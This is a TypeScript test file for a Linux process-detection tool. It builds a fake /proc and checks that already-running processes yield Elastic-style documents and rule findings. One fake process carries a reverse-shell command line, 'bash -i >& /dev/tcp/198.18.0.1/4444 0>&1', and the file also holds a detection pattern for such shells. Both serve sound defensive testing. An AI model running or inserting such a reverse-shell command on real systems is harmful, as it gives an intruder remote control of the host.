/**
 * already_running documents: one per process the table found in /proc at start, in the shape
 * Elastic Defend sends (process / info / already_running), for the Elastic rules that read
 * them; never for TRC-101, the relay rules or the shipped seed rule.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { Readable, Writable } from "node:stream";
import { Engine, JsonLinesOutput, OutputSet, Pipeline, ProcessTable, type SensorEvent } from "sockeye";
import { EventLineOutput } from "sockeye/outputs";
import { captureLine, readCapture } from "sockeye/capture";
import { compileEql, getField } from "../../../src/eql/compile.js";
import { entityId } from "../../../src/process/ecs-process.js";
import { loadRuleCatalog } from "../../../src/rules/catalog.js";
import { buildLifecycleEcsDocument } from "../../../src/rules/elastic/ecs-exec.js";
import { ecsHost } from "../../../src/rules/elastic/ecs-host.js";
import { loadElasticRules } from "../../../src/rules/elastic/loader.js";
import { elasticRule, loadBuiltinElasticRules } from "../../../src/rules/elastic/rule.js";
import type { AlreadyRunningEvent, ExecEvent } from "../../../src/sensor/events.js";
import { ProcHostView } from "../../../src/host/proc-host.js";

const TICK_NS = 10_000_000;
const SEED_ID = "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39";
const scratch = mkdtempSync(join(tmpdir(), "sockeye-already-running-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** A fake /proc with the processes of a host where a reverse shell was already running. */
function fakeProc(): string {
  const root = mkdtempSync(join(scratch, "proc-"));
  const add = (pid: number, p: { comm: string; ppid: number; ticks: number; uid: number; cmdline: string[]; exe?: string; cwd?: string }) => {
    const dir = join(root, String(pid));
    mkdirSync(dir);
    const rest = ["S", p.ppid, pid, pid, 0, ...Array<number>(14).fill(0), p.ticks, 0, 0];
    writeFileSync(join(dir, "stat"), `${pid} (${p.comm}) ${rest.join(" ")}\n`);
    const ids = (id: number) => `${id}\t${id}\t${id}\t${id}`;
    writeFileSync(join(dir, "status"), `Name:\t${p.comm}\nUid:\t${ids(p.uid)}\nGid:\t${ids(p.uid)}\n`);
    writeFileSync(join(dir, "cmdline"), p.cmdline.map((a) => `${a}\0`).join(""));
    if (p.exe !== undefined) symlinkSync(p.exe, join(dir, "exe"));
    if (p.cwd !== undefined) symlinkSync(p.cwd, join(dir, "cwd"));
  };
  add(1, { comm: "systemd", ppid: 0, ticks: 1, uid: 0, cmdline: ["/sbin/init"], exe: "/usr/lib/systemd/systemd" });
  add(400, { comm: "bash", ppid: 1, ticks: 400, uid: 0, cmdline: ["/bin/bash", "/etc/rc.local", "start"], exe: "/usr/bin/bash" });
  add(401, { comm: "sleep", ppid: 400, ticks: 401, uid: 0, cmdline: ["sleep", "infinity"], exe: "/usr/bin/sleep", cwd: "/" });
  add(500, { comm: "bash", ppid: 1, ticks: 500, uid: 1000, cmdline: ["bash", "-c", "while :; do sleep 1; done"], exe: "/usr/bin/bash" });
  // What the seed rule looks for, had it been seen starting: nohup from bash, /dev/tcp … 0>&1.
  add(600, { comm: "bash", ppid: 500, ticks: 600, uid: 1000, cmdline: ["bash"], exe: "/usr/bin/bash" });
  add(601, {
    comm: "nohup", ppid: 600, ticks: 601, uid: 1000, exe: "/usr/bin/nohup",
    cmdline: ["nohup", "bash", "-c", "bash -i >& /dev/tcp/198.18.0.1/4444 0>&1"],
  });
  add(602, { comm: "bash", ppid: 601, ticks: 602, uid: 1000, cmdline: ["bash", "-i"], exe: "/usr/bin/bash" });
  return root;
}

/** Writes a rule file of our own (Elastic's TOML shape) and returns its folder. */
function ruleDir(rules: Record<string, string>): string {
  const dir = mkdtempSync(join(scratch, "rules-"));
  for (const [id, query] of Object.entries(rules)) {
    writeFileSync(
      join(dir, `${id}.toml`),
      [
        "[metadata]", 'creation_date = "2026/12/02"', 'maturity = "production"', "", "[rule]", 'author = ["sockeye tests"]',
        `description = "${id}"`, 'language = "eql"', 'license = "Apache-2.0"', `name = "${id}"`, "risk_score = 21",
        `rule_id = "${id}"`, 'severity = "low"', 'type = "eql"', `query = '''\n${query}\n'''`, "",
      ].join("\n"),
    );
  }
  return dir;
}

// The conditions of two published Linux rules that read already_running documents.
const RULES = ruleDir({
  "ar-rc-local": `process where host.os.type == "linux" and event.type == "info" and event.action == "already_running" and
process.parent.args == "/etc/rc.local" and process.parent.args == "start"`,
  "ar-systemd-shell": `process where host.os.type == "linux" and event.type == "info" and event.action == "already_running" and
process.parent.name == "systemd" and process.name in ("bash", "sh", "tcsh", "csh", "zsh", "ksh", "fish") and
process.parent.command_line == "/sbin/init" and process.args_count >= 2`,
});
const ourRules = () => loadElasticRules([RULES]).map((result) => elasticRule(result.rule!));

function seeded(): { table: ProcessTable; events: AlreadyRunningEvent[] } {
  const table = new ProcessTable({ host: new ProcHostView({ procRoot: fakeProc() }) });
  return { table, events: table.seedFromProc({ timeNs: 9 * 1e9, timeMs: 1_800_000_000_000 }).alreadyRunning };
}

describe("already_running documents", () => {
  it("have the shape Elastic Defend sends: process / info / already_running with the process and its parent", () => {
    const { table, events } = seeded();
    const sleep = events.find((event) => event.task.pid === 401)!;
    const doc = buildLifecycleEcsDocument(sleep, table);
    expect(doc).toMatchObject({
      event: { category: ["process"], type: ["info"], action: "already_running", kind: "event" },
      host: ecsHost(""),
      process: {
        pid: 401,
        entity_id: entityId(401, 401 * TICK_NS, ""),
        name: "sleep",
        executable: "/usr/bin/sleep",
        args: ["sleep", "infinity"],
        args_count: 2,
        command_line: "sleep infinity",
        real_user: { id: "0" },
        parent: {
          pid: 400, name: "bash", executable: "/usr/bin/bash", entity_id: entityId(400, 400 * TICK_NS, ""),
          args: ["/bin/bash", "/etc/rc.local", "start"], command_line: "/bin/bash /etc/rc.local start",
        },
      },
      user: { id: "0" },
      group: { id: "0" },
    });
    // Alive at start: what /proc tells of it is read when a rule asks.
    expect(getField(doc, "process.working_directory")).toBe("/");
    expect(getField(doc, "process.session_leader.pid")).toBe(401);
    // The same entity id as the kernel events about this process will carry (exact start time).
    expect(getField(doc, "process.entity_id")).toBe(entityId(401, 401 * TICK_NS + 7_654_321, ""));
  });

  it("fire the rules written for them, once per matching process", () => {
    const { table, events } = seeded();
    const engine = new Engine({ rules: ourRules(), processes: table, fold: false, hostName: "h", now: () => 0 });
    const fired = events.flatMap((event) => engine.handle(event)).map((f) => [f.rule.id, f.process.pid, f.event.category]);
    expect(fired).toEqual([
      ["ar-systemd-shell", 400, ["process"]],
      ["ar-rc-local", 401, ["process"]],
      ["ar-systemd-shell", 500, ["process"]],
    ]);
  });

  it("reach only the rules that can match them: not exec-only rules, not on an exec", () => {
    for (const rule of ourRules()) expect(rule.kinds).toEqual(["already_running"]);
    const { table } = seeded();
    const engine = new Engine({ rules: ourRules(), processes: table, fold: false, hostName: "h", now: () => 0 });
    const exec: ExecEvent = {
      kind: "exec", timeNs: 1, timeMs: 1, filename: "/usr/bin/bash", filenameTruncated: false, args: ["bash", "-c", "x"], argsRaw: "",
      argsTruncated: false, loginUid: 0, stdio: null, capabilities: null,
      task: { pid: 700, tid: 700, ppid: 1, uid: 0, gid: 0, cgroupId: 1, startNs: 700 * TICK_NS, comm: "bash", parentComm: "systemd" },
    };
    expect(engine.handle(exec)).toEqual([]);
  });

  it("sockeye rules counts a rule that reads them as able to fire", () => {
    const { statuses } = loadRuleCatalog({ rulePaths: [RULES] });
    const ours = statuses.filter((s) => s.id?.startsWith("ar-"));
    expect(ours.map((s) => [s.id, s.status, s.neverFires, s.unprovidedFields])).toEqual([
      ["ar-rc-local", "runs", undefined, undefined],
      ["ar-systemd-shell", "runs", undefined, undefined],
    ]);
  });

  it("Pipeline.seedFromProc runs them through the rules to the outputs, and their record replays into the same findings", async () => {
    let text = "";
    const stream = new Writable({ write: (chunk: Buffer, _encoding, callback) => ((text += chunk.toString()), callback()) });
    const outputs = new OutputSet(
      [new JsonLinesOutput({ stream, name: "stdout" })],
      [new EventLineOutput({ name: "events", stream, format: captureLine })],
    );
    const pipeline = new Pipeline({ rules: ourRules(), processes: new ProcessTable({ host: new ProcHostView({ procRoot: fakeProc() }) }), outputs, fold: false, hostName: "h" });
    await pipeline.open();
    const report = pipeline.seedFromProc();
    await pipeline.close();
    expect(report).toMatchObject({ seeded: 7, skipped: 0 });
    const lines = text.split("\n").filter(Boolean).map((line) => JSON.parse(line) as { kind?: string; rule?: { id: string }; process?: { pid: number } });
    const events = lines.filter((line) => line.kind !== undefined);
    expect(events.map((event) => event.kind)).toEqual(Array<string>(7).fill("already_running"));
    const fired = (findings: typeof lines) => findings.filter((line) => line.rule !== undefined).map((f) => `${f.rule!.id} ${f.process!.pid}`);
    expect(fired(lines)).toEqual(["ar-systemd-shell 400", "ar-rc-local 401", "ar-systemd-shell 500"]);

    // Read back as a capture, the events are the same; a replay's table learns the processes from them.
    const replayed: SensorEvent[] = [];
    for await (const event of readCapture(Readable.from([events.map((event) => JSON.stringify(event)).join("\n")]))) replayed.push(event);
    expect(replayed).toEqual(events);
    const again: string[] = [];
    const replay = new Pipeline({ rules: ourRules(), fold: false, hostName: "h" });
    expect(await replay.run(replayed, (f) => again.push(`${f.rule.id} ${f.process.pid}`))).toEqual({ events: 7, findings: 3 });
    expect(again).toEqual(fired(lines));
  });
});

describe("already_running documents in the default configuration", () => {
  const defaults = loadRuleCatalog({ commandRelay: true }).rules;

  it("no built-in rule, opt-in rule or shipped Elastic rule subscribes to them", () => {
    expect(defaults.map((rule) => rule.meta.id)).toEqual(expect.arrayContaining(["TRC-101", "RELAY-001", "RELAY-002", SEED_ID]));
    expect(defaults.filter((rule) => rule.kinds.includes("already_running")).map((rule) => rule.meta.id)).toEqual([]);
    // The shipped seed rule pins event.type "start": an info document can never match it.
    for (const rule of loadBuiltinElasticRules()) expect(rule.kinds).not.toContain("already_running");
  });

  it("a reverse shell that was merely already running gives no finding", () => {
    const { table, events } = seeded();
    const engine = new Engine({ rules: defaults, processes: table, fold: false, hostName: "h", now: () => 0 });
    expect(events.flatMap((event) => engine.handle(event))).toEqual([]);
    // Its document would match the seed rule's conditions but for event.type/action.
    const nohup = buildLifecycleEcsDocument(events.find((event) => event.task.pid === 601)!, table);
    const seedConditions = compileEql(
      'process where process.name in ("setsid", "nohup") and process.args : "*/dev/tcp/*0>&1*" and process.parent.name in ("bash", "sh")',
    );
    expect(seedConditions.test(nohup)).toBe(true);
  });
});
